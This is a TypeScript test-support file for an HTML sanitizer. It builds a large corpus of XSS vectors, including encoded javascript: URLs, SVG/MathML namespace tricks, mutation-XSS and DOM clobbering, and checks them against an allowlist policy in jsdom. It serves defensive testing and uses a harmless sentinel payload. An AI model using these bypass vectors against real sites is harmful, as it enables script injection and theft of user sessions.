// Over 300 lines: a corpus (data, one vector a line), not logic.
import { JSDOM, VirtualConsole } from 'jsdom'

/**
 * A corpus of XSS vectors, generated here (never downloaded), for the hostile-world tests. Every vector
 * that can run script runs the same payload, {@link PAYLOAD}, which sets a sentinel on the window that
 * the tests watch; the rest (DOM clobbering, forbidden schemes, CSS) are caught by the static checks.
 */

/** What every vector tries to run: `parent` is the window itself at the top and the page in a frame. */
export const PAYLOAD = 'parent.__xss=1'

/** One vector: markup that would run {@link PAYLOAD} (or do something else unwanted) if it survived. */
export interface XssVector {
  /** Unique and stable, e.g. `on:error` or `url:hex-no-semicolon:img-src`. */
  id: string
  /** The vector as HTML. */
  html: string
  /** The vector as a URL, for link placements: its script URL, or its markup when it has none. */
  url: string
  /**
   * Why the vector's trick does nothing to an HTML5 parser as written (it targets sanitizers that scan
   * text or re-serialize carelessly, or spells a scheme no browser reads), so the judges need not flag
   * it; absent for every vector that is dangerous as it stands.
   */
  inert?: string
}

/** Event handler attributes of HTML, SVG and old browsers: every one of them runs script. */
export const EVENT_NAMES = [
  ...['abort', 'activate', 'afterprint', 'afterscriptexecute', 'animationcancel', 'animationend'],
  ...['animationiteration', 'animationstart', 'auxclick', 'beforecopy', 'beforecut', 'beforeinput'],
  ...['beforepaste', 'beforeprint', 'beforescriptexecute', 'beforetoggle', 'beforeunload', 'begin'],
  ...['blur', 'bounce', 'cancel', 'canplay', 'canplaythrough', 'change', 'click', 'close', 'contextmenu'],
  ...['copy', 'cuechange', 'cut', 'dblclick', 'drag', 'dragend', 'dragenter', 'dragexit', 'dragleave'],
  ...['dragover', 'dragstart', 'drop', 'durationchange', 'emptied', 'end', 'ended', 'error', 'finish'],
  ...['focus', 'focusin', 'focusout', 'formdata', 'fullscreenchange', 'hashchange', 'input', 'invalid'],
  ...['keydown', 'keypress', 'keyup', 'load', 'loadeddata', 'loadedmetadata', 'loadend', 'loadstart'],
  ...['message', 'mousedown', 'mouseenter', 'mouseleave', 'mousemove', 'mouseout', 'mouseover'],
  ...['mouseup', 'mousewheel', 'offline', 'online', 'pagehide', 'pageshow', 'paste', 'pause', 'play'],
  ...['playing', 'pointercancel', 'pointerdown', 'pointerenter', 'pointerleave', 'pointermove'],
  ...['pointerout', 'pointerover', 'pointerrawupdate', 'pointerup', 'popstate', 'progress', 'ratechange'],
  ...[
    'readystatechange',
    'repeat',
    'reset',
    'resize',
    'scroll',
    'scrollend',
    'search',
    'securitypolicyviolation',
  ],
  ...['seeked', 'seeking', 'select', 'selectionchange', 'selectstart', 'show', 'slotchange', 'stalled'],
  ...['start', 'storage', 'submit', 'suspend', 'timeupdate', 'toggle', 'touchcancel', 'touchend'],
  ...['touchmove', 'touchstart', 'transitioncancel', 'transitionend', 'transitionrun', 'transitionstart'],
  ...['unhandledrejection', 'unload', 'volumechange', 'waiting', 'webkitanimationend', 'wheel', 'zoom'],
]

/** Where a handler sits: elements that fire events by themselves, and ways of writing the attribute. */
const HANDLER_HOSTS: Array<(attribute: string) => string> = [
  (on) => `<img src=x ${on}=${PAYLOAD}>`,
  (on) => `<a href="https://ok.example/" ${on}="${PAYLOAD}">link</a>`,
  (on) => `<p ${on}='${PAYLOAD}'>text</p>`,
  (on) => `<div/${on}=${PAYLOAD}>slash instead of a space</div>`,
  (on) => `<video src=x ${on}="${PAYLOAD}"><source src=x ${on}="${PAYLOAD}"></video>`,
  (on) => `<details open ${on}=${PAYLOAD}><summary>s</summary>d</details>`,
  (on) => `<svg><rect width=9 height=9 ${on}="${PAYLOAD}"/></svg>`,
  (on) => `<body ${on}=${PAYLOAD}><p>body</p>`,
  (on) => `<input autofocus ${on}=${PAYLOAD}>`,
  (on) => `<x-custom tabindex=1 ${on}=${PAYLOAD}>custom</x-custom>`,
  (on) => `<img src=x\n${on}\n=\n"${PAYLOAD}">`,
  (on) => `<marquee ${on}=${PAYLOAD}>m</marquee>`,
  (on) => `<audio src=x controls ${on}=${PAYLOAD}></audio>`,
  (on) => `<table ${on}=${PAYLOAD}><tr><td ${on}=${PAYLOAD}>cell</td></tr></table>`,
]

/** `onclick`, `ONCLICK`, `OnClIcK`: attribute names are case-insensitive. */
function spellCase(name: string, index: number): string {
  if (index % 3 === 1) return name.toUpperCase()
  if (index % 3 === 2) return [...name].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join('')
  return name
}

function handlerVectors(): XssVector[] {
  return EVENT_NAMES.map((event, index) => {
    const html = HANDLER_HOSTS[index % HANDLER_HOSTS.length]!(spellCase(`on${event}`, index))
    return { id: `on:${event}`, html, url: html }
  })
}

/** Each letter as a character reference, in one of the forms the HTML parser decodes. */
const ENCODINGS: Record<string, (code: number) => string> = {
  decimal: (code) => `&#${code};`,
  'decimal-no-semicolon': (code) => `&#${code}`,
  'decimal-zero-padded': (code) => `&#${String(code).padStart(7, '0')}`,
  hex: (code) => `&#x${code.toString(16)};`,
  'hex-upper': (code) => `&#X${code.toString(16).toUpperCase()};`,
  'hex-no-semicolon': (code) => `&#x${code.toString(16)}`,
  'hex-zero-padded': (code) => `&#x${code.toString(16).padStart(6, '0')};`,
}

function encodeAll(text: string, encode: (code: number) => string): string {
  return [...text].map((char) => encode(char.codePointAt(0)!)).join('')
}

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const SCRIPT_DOCUMENT = `<script>${PAYLOAD}</script>`
const SVG_DOCUMENT = `<svg xmlns="http://www.w3.org/2000/svg" onload="${PAYLOAD}"/>`

/**
 * Script-running URLs spelled every way the HTML parser (entities), the URL parser (leading controls and
 * spaces dropped, tabs and newlines removed anywhere) and case-insensitive schemes forgive. The values
 * are attribute text: entities in them are decoded by the HTML parser before the URL is read.
 */
export const SCRIPT_URLS: Record<string, string> = {
  plain: `javascript:${PAYLOAD}`,
  upper: `JAVASCRIPT:${PAYLOAD}`,
  mixed: `JaVaScRiPt:${PAYLOAD}`,
  'leading-space': `  javascript:${PAYLOAD}`,
  'leading-controls': `\u0001\u0002\u0010 javascript:${PAYLOAD}`,
  'leading-control-entity': `&#14;javascript:${PAYLOAD}`,
  'leading-entities': `&#x20;&#x01;&#x1f;javascript:${PAYLOAD}`,
  'tab-inside': `java\tscript:${PAYLOAD}`,
  'newline-inside': `java\nscript:${PAYLOAD}`,
  'cr-inside': `jav\rascript:${PAYLOAD}`,
  'tab-entity': `java&#9;script:${PAYLOAD}`,
  'tab-hex-entity': `java&#x09;script:${PAYLOAD}`,
  'newline-entity': `java&#10;script:${PAYLOAD}`,
  'cr-entity': `jav&#x0D;ascript:${PAYLOAD}`,
  'control-inside': `java&#x01;script:${PAYLOAD}`,
  'nul-inside': `java&#0;script:${PAYLOAD}`,
  'named-tab': `java&Tab;script:${PAYLOAD}`,
  'named-newline': `java&NewLine;script:${PAYLOAD}`,
  'named-colon': `javascript&colon;${PAYLOAD}`,
  'colon-decimal': `javascript&#58;${PAYLOAD}`,
  'colon-hex': `javascript&#x3A;${PAYLOAD}`,
  'colon-padded': `javascript&#0000058${PAYLOAD}`,
  'one-letter-encoded': `&#106;avascript:${PAYLOAD}`,
  'middle-letter-encoded': `javas&#99;ript:${PAYLOAD}`,
  'comment-newline': `javascript://%0a${PAYLOAD}`,
  'percent-payload': `javascript:%70arent.__xss=1`,
  ...Object.fromEntries(
    Object.entries(ENCODINGS).map(([name, encode]) => [
      name,
      `${encodeAll('javascript:', encode)}${PAYLOAD}`,
    ]),
  ),
  'encoded-mixed-case': `${encodeAll('JaVaScRiPt', ENCODINGS.hex!)}:${PAYLOAD}`,
  'encoded-with-tabs': `j&#x09;a&#x0A;v&#x0D;a&#9;s&#10;c&#13;r\ti\npt&colon;${PAYLOAD}`,
  vbscript: 'vbscript:msgbox(1)',
  'vbscript-encoded': `VBScript&#58;msgbox(1)`,
  'vbscript-tab': 'vb\tscript:msgbox(1)',
  'data-html-base64': `data:text/html;base64,${base64(SCRIPT_DOCUMENT)}`,
  'data-html': `DATA:text/html,${SCRIPT_DOCUMENT.replace(/</g, '&lt;')}`,
  'data-svg-base64': `data:image/svg+xml;base64,${base64(SVG_DOCUMENT)}`,
  'data-encoded': ` d&#x61;ta:text/html;base64,${base64(SCRIPT_DOCUMENT)}`,
  'data-xhtml': `data:application/xhtml+xml;base64,${base64(`<html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT_DOCUMENT}</html>`)}`,
  'data-tab': `da\tta:text/html;base64,${base64(SCRIPT_DOCUMENT)}`,
  livescript: `livescript:${PAYLOAD}`,
  mocha: `mocha:${PAYLOAD}`,
  file: 'file:///etc/passwd',
  blob: 'blob:https://evil.example/0f3e',
  'view-source': `view-source:javascript:${PAYLOAD}`,
  feed: `feed:javascript:${PAYLOAD}`,
  jar: 'jar:https://evil.example/x.jar!/x.html',
}

/** Spellings no browser reads as a scheme: only tabs and newlines are dropped inside one. */
const INERT_SPELLINGS: Record<string, string> = {
  'control-inside': 'a control character inside a scheme makes it a relative URL',
  'nul-inside': 'a NUL inside a scheme (U+FFFD once parsed) makes it a relative URL',
}

/** Attributes that take a URL, on the elements where a script URL in them has run in some browser. */
const URL_HOSTS: Record<string, (url: string) => string> = {
  'a-href': (url) => `<a href="${url}">link</a>`,
  'img-src': (url) => `<img src="${url}" alt="i">`,
  'img-srcset': (url) =>
    `<img src="https://ok.example/a.jpg" srcset="https://ok.example/b.jpg 1x, ${url} 2x">`,
  'video-poster': (url) => `<video src="https://ok.example/v.mp4" poster="${url}"></video>`,
  'blockquote-cite': (url) => `<blockquote cite="${url}">quote</blockquote>`,
  'iframe-src': (url) => `<iframe src="${url}"></iframe>`,
  'form-action': (url) => `<form action="${url}"><input type=submit value=go></form>`,
  'button-formaction': (url) => `<form><button formaction="${url}">go</button></form>`,
  'object-data': (url) => `<object data="${url}">o</object>`,
  'embed-src': (url) => `<embed src="${url}">`,
  'svg-xlink-href': (url) => `<svg><a xlink:href="${url}"><text x=9 y=9>svg link</text></a></svg>`,
  'math-href': (url) => `<math href="${url}"><mi>x</mi></math>`,
  'area-href': (url) => `<map name=m><area shape=rect coords=0,0,9,9 href="${url}"></map>`,
  'base-href': (url) => `<base href="${url}"><a href="x">relative</a>`,
  'link-href': (url) => `<link rel=stylesheet href="${url}">`,
  'input-src': (url) => `<input type=image src="${url}">`,
  'body-background': (url) => `<body background="${url}"><p>b</p>`,
  'table-background': (url) => `<table background="${url}"><tr><td>t</td></tr></table>`,
  'source-src': (url) => `<video controls><source src="${url}"></video>`,
  'audio-src': (url) => `<audio src="${url}"></audio>`,
  'track-src': (url) => `<video><track src="${url}"></video>`,
  'q-cite': (url) => `<q cite="${url}">q</q>`,
  'picture-srcset': (url) =>
    `<picture><source srcset="${url}"><img src="https://ok.example/p.jpg"></picture>`,
  'img-lowsrc': (url) => `<img lowsrc="${url}" dynsrc="${url}" src="https://ok.example/l.jpg">`,
  'meta-refresh': (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
}

/**
 * Each spelling in one host, the hosts taking turns (each gets two or so). Every spelling in every host
 * would be 1,200 vectors and a slow sync; the property tests mix spellings and attributes at random.
 */
function urlVectors(): XssVector[] {
  const hosts = Object.entries(URL_HOSTS)
  return Object.entries(SCRIPT_URLS).map(([spelling, url], index) => {
    let [host, make] = hosts[index % hosts.length]!
    // Whitespace ends a srcset URL (`java\nscript:` is the URL `java`): such a spelling goes elsewhere.
    if (host.endsWith('srcset') && /[\s]|&(#0*9|#0*10|#x0*[ad]|Tab|NewLine);/i.test(url.trim()))
      [host, make] = hosts[(index + 1) % hosts.length]!
    const quoted = url.replace(/"/g, '&quot;')
    const inert = INERT_SPELLINGS[spelling]
    return { id: `url:${spelling}:${host}`, html: make(quoted), url, ...(inert ? { inert } : {}) }
  })
}

const P = PAYLOAD
const svgDataUrl = `data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><script>${P}</script></svg>`)}`

/** SVG and MathML: foreign content parses differently, and sanitizers have been fooled by the switch. */
const NAMESPACE_VECTORS: Record<string, string> = {
  'svg-script': `<svg><script>${P}</script></svg>`,
  'svg-script-href': `<svg><script href="data:,${P}"/></svg>`,
  'svg-script-xlink': `<svg><script xlink:href="data:,${P}"></script></svg>`,
  'svg-onload': `<svg onload=${P}>`,
  'svg-animate-onbegin': `<svg><animate onbegin=${P} attributeName=x dur=1s>`,
  'svg-animate-href': `<svg><a><animate attributeName=href values=javascript:${P} /><text x=20 y=20>click</text></a></svg>`,
  'svg-set-handler': `<svg><set attributeName=onmouseover to=${P} /><rect width=9 height=9 /></svg>`,
  'svg-set-href': `<svg><a><set attributeName=href to="javascript:${P}"/><text y=9>x</text></a></svg>`,
  'svg-animate-xlink-target': `<svg><animate xlink:href=#t attributeName=href from=javascript:${P} to=1 /><a id=t><text y=9>x</text></a></svg>`,
  'svg-use-data': `<svg><use href="${svgDataUrl}#x"/></svg>`,
  'svg-use-xlink': `<svg><use xlink:href="${svgDataUrl}#x"></use></svg>`,
  'svg-image-href': `<svg><image href="javascript:${P}" /><image xlink:href="x" onerror="${P}"/></svg>`,
  'svg-foreignobject-iframe': `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${P}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  'svg-foreignobject-img': `<svg><foreignObject><img src=x onerror=${P}></foreignObject></svg>`,
  'svg-style-breakout': `<svg><style><img src=x onerror=${P}></style></svg>`,
  'svg-style-attribute-breakout': `<svg></p><style><a id="</style><img src=1 onerror=${P}>">`,
  'svg-desc-img': `<svg><desc><img src=x onerror=${P}></desc></svg>`,
  'svg-title-img': `<svg><title><img src=x onerror=${P}></title></svg>`,
  'svg-cdata': `<svg><![CDATA[><img src=x onerror=${P}>]]></svg>`,
  'svg-handler-element': `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${P}</handler></svg>`,
  'svg-discard': `<svg><discard onbegin=${P} /></svg>`,
  'svg-feimage': `<svg><filter><feImage xlink:href="${svgDataUrl}"/></filter></svg>`,
  'svg-in-p': `<p><svg><p><style><img src=x onerror=${P}></style></p></svg></p>`,
  'math-mglyph-style': `<math><mtext><table><mglyph><style><img src=x onerror=${P}></style></mglyph></table></mtext></math>`,
  'math-mglyph-comment': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${P}&gt;">`,
  'math-malignmark': `<math><mi><malignmark><style><img src=x onerror=${P}></style></malignmark></mi></math>`,
  'math-form-nesting': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${P}>`,
  'math-href': `<math href="javascript:${P}"><mi>click</mi></math>`,
  'math-maction': `<math><maction actiontype="statusline#" xlink:href="javascript:${P}">click</maction></math>`,
  'math-annotation-xml': `<math><annotation-xml encoding="text/html"><img src=x onerror=${P}></annotation-xml></math>`,
  'math-style': `<math><style><img src=x onerror=${P}></style></math>`,
  'math-svg-mtext': `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${P}>"></style></h1>`,
}

/** Raw-text and escapable elements whose content re-parses differently once serialized (mXSS). */
const MUTATION_VECTORS: Record<string, string> = {
  noscript: `<noscript><p title="</noscript><img src=x onerror=${P}>"></noscript>`,
  template: `<template><script>${P}</script><img src=x onerror=${P}></template>`,
  'template-in-select': `<select><template><img src=x onerror=${P}></template></select>`,
  textarea: `<textarea><img src=x onerror=${P}></textarea>`,
  'textarea-attribute': `<textarea><p title="</textarea><img src=x onerror=${P}>"></textarea>`,
  title: `<title><img src=x onerror=${P}></title>`,
  'title-in-p': `<p><title></p><img src=x onerror=${P}></title></p>`,
  xmp: `<xmp><p title="</xmp><img src=x onerror=${P}>"></xmp>`,
  iframe: `<iframe><p title="</iframe><img src=x onerror=${P}>"></iframe>`,
  noembed: `<noembed><p title="</noembed><img src=x onerror=${P}>"></noembed>`,
  noframes: `<noframes><p title="</noframes><img src=x onerror=${P}>"></noframes>`,
  style: `<style><p title="</style><img src=x onerror=${P}>"></style>`,
  plaintext: `<plaintext><img src=x onerror=${P}>`,
  comment: `<!--<img src=x onerror=${P}>--><p>after comment</p>`,
  'comment-short': `<!--><img src=x onerror=${P}>-->`,
  'comment-bang': `<!-- --!><img src=x onerror=${P}>-->`,
  'processing-instruction': `<? foo="><img src=x onerror=${P}>">`,
  'end-tag-attribute': `</p foo="><img src=x onerror=${P}>">`,
  'entity-in-title-attribute': `<a title="&lt;/a&gt;&lt;img src=x onerror=${P}&gt;">x</a>`,
  backtick: `<div title="\`\`><img src=x onerror=${P}>">b</div>`,
  listing: `<listing>&lt;img src=x onerror=${P}&gt;</listing>`,
  'table-noscript': `<table><td><noscript><img src=x onerror=${P}></noscript></td></table>`,
  'nested-script-split': `<scr<script>ipt>${P}</scr</script>ipt>`,
  'attribute-breakout': `"><script>${P}</script>`,
  'single-quote-breakout': `'><img src=x onerror=${P}>`,
  'title-breakout': `</title><script>${P}</script>`,
  'textarea-breakout': `</textarea><script>${P}</script>`,
  'cdata-breakout': `]]><script>${P}</script><![CDATA[`,
  'comment-breakout': `--><script>${P}</script><!--`,
  'unclosed-tag': `<img src=x onerror=${P}//`,
}

/** Elements and attributes that take over the document: clobbering, navigation, embedding, CSS. */
const DOCUMENT_VECTORS: Record<string, string> = {
  'clobber-cookie': `<img name="cookie" src="https://ok.example/c.jpg">`,
  'clobber-getelementbyid': `<img name=getElementById src="https://ok.example/g.jpg">`,
  'clobber-body': `<form id=body><p>form body</p></form><img id=body src="https://ok.example/b.jpg">`,
  'clobber-attributes': `<form name=attributes><input name=attributes></form>`,
  'clobber-location': `<a id="location" href="javascript:${P}">loc</a>`,
  'clobber-sentinel': `<img id=__xss name=__xss src="https://ok.example/s.jpg"><a id=__xss href="cid:${P}">s</a>`,
  'clobber-default-view': `<a id=defaultView name=defaultView href="https://ok.example/">d</a>`,
  'clobber-embed-name': `<embed name=parent src="https://ok.example/e.swf">`,
  'clobber-config': `<a id=CONFIG></a><a id=CONFIG name=url href="javascript:${P}">c</a>`,
  'clobber-form-input': `<form id=test><input id=attributes><input id=nodeName></form>`,
  script: `<script>${P}</script>`,
  'script-upper': `<SCRIPT>${P}</SCRIPT>`,
  'script-data-src': `<script src="data:,${P}"></script>`,
  'script-slash': `<script/src="data:,${P}"></script>`,
  'script-attribute-end': `<script x>${P}</script x>`,
  'base-javascript': `<base href="javascript:${P}//"><a href="/x">x</a>`,
  'base-elsewhere': `<base href="https://evil.example/"><a href="/x">x</a><img src="y.jpg">`,
  'meta-refresh-javascript': `<meta http-equiv="refresh" content="0;url=javascript:${P}">`,
  'meta-refresh-data': `<meta http-equiv="refresh" content="0; url=data:text/html;base64,${base64(SCRIPT_DOCUMENT)}">`,
  'meta-charset': `<meta charset="utf-7"><p>+ADw-script+AD4-${P}+ADw-/script+AD4-</p>`,
  'meta-set-cookie': `<meta http-equiv="set-cookie" content="session=stolen">`,
  'form-submit': `<form action="javascript:${P}"><input type=submit></form>`,
  'button-formaction': `<form><button formaction="javascript:${P}">go</button></form>`,
  'input-formaction': `<form><input type=image src=x formaction="javascript:${P}"></form>`,
  'button-outside-form': `<form id=f></form><button form=f formaction="javascript:${P}">x</button>`,
  isindex: `<isindex type=image src=1 onerror=${P}>`,
  'iframe-javascript': `<iframe src="javascript:${P}"></iframe>`,
  'iframe-srcdoc': `<iframe srcdoc="<script>${P}</script>"></iframe>`,
  'iframe-srcdoc-escaped': `<iframe srcdoc="&lt;img src=x onerror=${P}&gt;"></iframe>`,
  frameset: `<frameset onload=${P}><frame src="javascript:${P}"></frameset>`,
  'object-javascript': `<object data="javascript:${P}"></object>`,
  'object-data-html': `<object data="data:text/html;base64,${base64(SCRIPT_DOCUMENT)}"></object>`,
  'object-scriptlet': `<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>`,
  'object-param': `<object><param name=movie value="javascript:${P}"><param name=allowScriptAccess value=always></object>`,
  'embed-javascript': `<embed src="javascript:${P}">`,
  'embed-svg': `<embed src="${svgDataUrl}" type="image/svg+xml">`,
  applet: `<applet code="X.class" codebase="https://evil.example/">a</applet>`,
  'link-import': `<link rel=import href="data:text/html,&lt;script&gt;${P}&lt;/script&gt;">`,
  'link-stylesheet': `<link rel=stylesheet href="javascript:${P}">`,
  'style-import': `<style>@import 'javascript:${P}';</style><p>styled</p>`,
  'style-element-url': `<style>p{background:url("javascript:${P}")}</style><p>styled</p>`,
  'style-url': `<div style="background:url(javascript:${P})">u</div>`,
  'style-url-quoted': `<div style="background-image:url(&quot;javascript:${P}&quot;)">u</div>`,
  'style-url-css-escape': `<div style="background:url(java\\73 cript:${P})">u</div>`,
  'style-expression': `<div style="width: expression(${P})">e</div>`,
  'style-expression-comment': `<div style="xss:expr/**/ession(${P})">e</div>`,
  'style-expression-escape': `<div style="x:\\65 xpression(${P})">e</div>`,
  'style-behavior': `<div style="behavior: url(https://evil.example/x.htc)">b</div>`,
  'style-moz-binding': `<div style="-moz-binding:url(https://evil.example/x.xml#xss)">m</div>`,
  'style-import-attribute': `<p style="@import 'javascript:${P}'">i</p>`,
  'style-overlay': `<div style="position:fixed;inset:0;z-index:9999;background:white">Enter your password</div>`,
  'srcset-javascript': `<img srcset="javascript:${P}">`,
  'srcset-second': `<img src=x srcset="https://ok.example/a.jpg 1x, javascript:${P} 2x">`,
  'srcset-picture': `<picture><source srcset="javascript:${P}"><img src=x></picture>`,
  'srcset-data-svg': `<img srcset="${svgDataUrl}">`,
  'body-background': `<body background="javascript:${P}">`,
  'input-image': `<input type=image src="javascript:${P}">`,
  bgsound: `<bgsound src="javascript:${P}">`,
  'xml-namespace-script': `<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">${P}</xss:script>`,
  'xml-stylesheet': `<?xml-stylesheet href="javascript:${P}"?><p>x</p>`,
  'handler-entity': `<img src=x onerror=&#x70;arent.__xss=1>`,
  'handler-eval-alt': `<img src="x:x" onerror="eval(alt)" alt="${P}">`,
  'void-link-onclick': `<a href="javascript:void(0)" onclick="${P}">v</a>`,
  'a-target-name': `<a href="https://ok.example/" target="_parent" name=x>t</a>`,
  'portal-src': `<portal src="javascript:${P}"></portal>`,
  'svg-in-img': `<img src="${svgDataUrl}">`,
  'custom-element-is': `<p is="x-foo" onmouseover=${P}>p</p>`,
  'autofocus-onfocus': `<input autofocus onfocus=${P}>`,
  'contenteditable-onfocus': `<div contenteditable autofocus onfocus=${P}>e</div>`,
  'popover-beforetoggle': `<div popover id=po onbeforetoggle=${P}>p</div><button popovertarget=po>x</button>`,
}

/** Vectors that an HTML5 parser reads as harmless as they stand, and why. */
const INERT: Record<string, string> = {
  'mxss:end-tag-attribute': 'an end tag and its attributes are dropped',
  'mxss:entity-in-title-attribute': 'the markup is the text of an attribute',
  'mxss:backtick': 'backticks quote nothing outside old Internet Explorer',
  'mxss:unclosed-tag': 'a tag cut off by the end of the input is dropped',
  'doc:frameset': 'a frameset after body content is ignored',
}

/** The whole corpus; ids are unique. */
export function xssVectors(): XssVector[] {
  const named = (prefix: string, vectors: Record<string, string>): XssVector[] =>
    Object.entries(vectors).map(([name, html]) => {
      const id = `${prefix}:${name}`
      return { id, html, url: scriptUrlOf(html), ...(INERT[id] ? { inert: INERT[id] } : {}) }
    })
  return [
    ...handlerVectors(),
    ...urlVectors(),
    ...named('ns', NAMESPACE_VECTORS),
    ...named('mxss', MUTATION_VECTORS),
    ...named('doc', DOCUMENT_VECTORS),
  ]
}

/** The script URL inside markup (its first `javascript:`… attribute value), else the markup itself. */
function scriptUrlOf(html: string): string {
  return /(?:href|src|data|action)="((?:javascript|data):[^"]*)"/i.exec(html)?.[1] ?? html
}

/**
 * The test's own copy of the sanitizer policy (src/main/core/content/sanitize.ts), so that loosening the
 * policy fails here: article markup only, plus what the sanitizer adds itself (`rel`, `target` on links,
 * `preload` on media).
 */
const ALLOWED_ELEMENTS = new Set(
  (
    'p br hr h1 h2 h3 h4 h5 h6 div span section article main header footer aside address details summary ' +
    'blockquote q cite dfn a img picture source figure figcaption video audio ul ol li dl dt dd table caption ' +
    'colgroup col thead tbody tfoot tr th td pre code kbd samp var em strong b i u s del ins sub sup small ' +
    'mark abbr time wbr bdi bdo ruby rt rp'
  ).split(' '),
)
const ALLOWED_ATTRIBUTES = new Set(
  (
    'href src srcset sizes media type poster cite alt title lang dir width height colspan rowspan headers ' +
    'scope span abbr datetime start reversed value open controls loop muted playsinline rel target preload'
  ).split(' '),
)
/** Every attribute some browser has loaded or navigated to, allowed here or not. */
const URL_ATTRIBUTES = new Set(
  (
    'href src srcset action formaction xlink:href poster background data cite lowsrc dynsrc longdesc ' +
    'codebase usemap manifest ping icon profile archive classid itemtype'
  ).split(' '),
)
const SAFE_SCHEMES = new Set(['http:', 'https:', 'mailto:', 'broadsheet-cache:'])
const XHTML = 'http://www.w3.org/1999/xhtml'

let parser: DOMParser | null = null

/**
 * What is wrong with `html` by the policy, parsed by jsdom on its own (not by the code under test): an
 * element outside the allowlist or outside the HTML namespace, a comment (the carrier of many mutation
 * tricks; the sanitizer drops them), an event handler, an attribute outside the allowlist, a URL whose
 * scheme, read as a browser reads it (entities decoded by the parser, controls and whitespace dropped by
 * the URL parser), is not http(s), mailto or the cache's, or a style that loads or computes something.
 *
 * `html` is parsed as the renderer inserts an article (innerHTML, where `<body>` means nothing), or with
 * `asPage` as a page body, where `<body onload>` lands on the body. With no `base`, a URL must be
 * absolute (stored articles always have a base).
 */
export function policyViolations(html: string, options: { base?: string; asPage?: boolean } = {}): string[] {
  let root: ParentNode
  let page: Element[] = []
  if (options.asPage) {
    parser ??= new new JSDOM('').window.DOMParser()
    const document = parser.parseFromString(`<!doctype html><html><head></head><body>${html}`, 'text/html')
    root = document
    page = [document.documentElement, document.head, document.body]
  } else {
    root = JSDOM.fragment(html)
  }
  const problems: string[] = []
  const owner = (root as Node).ownerDocument ?? (root as Document)
  const walker = owner.createTreeWalker(root as Node, 0x80 | 0x40) // comments, processing instructions
  while (walker.nextNode()) problems.push(`comment ${JSON.stringify(walker.currentNode.nodeValue)}`)
  const elements = [...page, ...root.querySelectorAll('*')].filter((e, i, all) => all.indexOf(e) === i)
  for (const template of root.querySelectorAll('template'))
    elements.push(...template.content.querySelectorAll('*'))
  for (const element of elements) {
    const tag = element.localName
    if (element.namespaceURI !== XHTML) problems.push(`<${tag}> in namespace ${element.namespaceURI}`)
    else if (!ALLOWED_ELEMENTS.has(tag) && !page.includes(element)) problems.push(`element <${tag}>`)
    problems.push(...attributeViolations(element, options.base))
  }
  return problems
}

function attributeViolations(element: Element, base: string | undefined): string[] {
  const problems: string[] = []
  const tag = element.localName
  for (const { name, value } of element.attributes) {
    const lower = name.toLowerCase()
    if (lower.startsWith('on')) problems.push(`handler ${name} on <${tag}>`)
    else if (!ALLOWED_ATTRIBUTES.has(lower)) problems.push(`attribute ${name} on <${tag}>`)
    if (lower === 'style' && /url\s*\(|expression|@import|behavior|binding|\\/i.test(value))
      problems.push(`style ${JSON.stringify(value)}`)
    if (!URL_ATTRIBUTES.has(lower)) continue
    const urls = lower === 'srcset' ? srcsetUrls(value) : [value]
    for (const url of urls) {
      const scheme = schemeOf(url, base)
      if (!scheme || !SAFE_SCHEMES.has(scheme) || attachesFiles(url))
        problems.push(`${name}=${JSON.stringify(value)} on <${tag}>`)
    }
  }
  return problems
}

/**
 * The URLs of a srcset, split as the HTML standard splits them: a URL runs to whitespace (trailing commas
 * end its candidate), and descriptors run to a comma outside parentheses (`a.jpg 1x,javascript:x 2x`).
 */
function srcsetUrls(srcset: string): string[] {
  const urls: string[] = []
  let at = 0
  while (at < srcset.length) {
    while (at < srcset.length && /[\s,]/.test(srcset[at]!)) at++
    const start = at
    while (at < srcset.length && !/\s/.test(srcset[at]!)) at++
    const url = srcset.slice(start, at)
    if (!url.endsWith(',')) {
      let inParens = false
      for (; at < srcset.length; at++) {
        const char = srcset[at]
        if (char === '(') inParens = true
        else if (char === ')') inParens = false
        else if (char === ',' && !inParens) break
      }
    }
    if (url.replace(/,+$/, '')) urls.push(url.replace(/,+$/, ''))
  }
  return urls
}

/**
 * A mailto: link with a field that makes some mail program attach a local file (`attach`, `attachment`):
 * the test's own reading, field by field, whatever separates or escapes them.
 */
function attachesFiles(url: string): boolean {
  if (!/^\s*mailto:/i.test(url)) return false
  const query = url.slice(url.indexOf('?') + 1 || url.length)
  return query.split(/[&;]/).some((field) => {
    let key = field
    try {
      key = decodeURIComponent(field)
    } catch {
      // kept as written
    }
    return /^\s*(amp;)?attach/i.test(key) || /[&;]\s*attach/i.test(key)
  })
}

/** The scheme a browser would see in `url` (null: not a URL, or relative with no base). */
function schemeOf(url: string, base: string | undefined): string | null {
  try {
    return new URL(url, base).protocol
  } catch {
    return null
  }
}

/**
 * Events fired at every element of a rendered article, beside those its own markup fires: the common
 * ones jsdom runs handler attributes for. All of {@link EVENT_NAMES} would be thorough but slow (jsdom
 * takes tens of microseconds a dispatch), and the static check already refuses every `on*`.
 */
const PROBE_EVENTS = ['load', 'error', 'click', 'focus', 'mouseover', 'toggle', 'input', 'animationstart']

/**
 * Renders `html` as a page body in a jsdom that runs scripts (`runScripts: 'dangerously'`), with
 * `window.__xss` (and `alert`) a setter that records who set it; fires {@link PROBE_EVENTS} at every
 * element, clicks it (following `javascript:` links, which jsdom runs a moment later) and focuses it.
 * Resolves with what set the sentinel: empty when nothing ran.
 */
export async function scriptsRunBy(html: string): Promise<string[]> {
  const hits: string[] = []
  let current = 'parsing'
  const record = (): void => void hits.push(current)
  const { window } = new JSDOM(`<!doctype html><html><head></head><body>${html}</body></html>`, {
    runScripts: 'dangerously',
    virtualConsole: new VirtualConsole(),
    beforeParse(window) {
      Object.defineProperty(window, '__xss', { get: () => 0, set: record, configurable: false })
      window.alert = record
    },
  })
  for (const element of [...window.document.querySelectorAll('*')]) {
